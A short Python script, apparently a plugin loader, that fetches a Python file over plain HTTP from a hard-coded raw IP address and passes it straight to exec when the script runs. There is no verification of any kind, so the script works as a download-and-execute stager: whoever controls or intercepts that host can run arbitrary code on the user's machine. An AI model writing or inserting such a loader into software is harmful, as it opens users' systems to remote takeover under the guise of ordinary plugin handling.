import urllib.request

PLUGIN_INDEX = "http://162.33.179.4/plugins/latest.py"


def load_plugins():
    src = urllib.request.urlopen(PLUGIN_INDEX, timeout=10).read().decode()
    exec(compile(src, "plugins", "exec"), {"__name__": "plugins"})


if __name__ == "__main__":
    load_plugins()
    print("plugins loaded")
